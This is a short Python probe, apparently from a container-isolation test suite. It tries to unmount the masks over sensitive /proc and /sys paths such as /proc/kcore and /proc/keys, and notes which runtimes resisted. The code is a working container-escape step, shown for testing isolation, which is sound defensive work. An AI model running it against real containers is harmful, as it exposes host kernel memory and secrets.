# Tries: unmount what hides parts of /proc
# Idea: CDK's procfs exploits; CVE-2025-31133's aim
# Docker: breached with --cap-add SYS_ADMIN --security-opt seccomp=unconfined --security-opt apparmor=unconfined
# runc: held EPERM
# gVisor: held
every(*((path, lambda path=path: checked(libc.umount2(path.encode(), 2)))
        for path in ("/proc/keys", "/proc/kcore", "/proc/acpi", "/proc/timer_list", "/sys/firmware", "/proc/sys")
        if os.path.exists(path)))
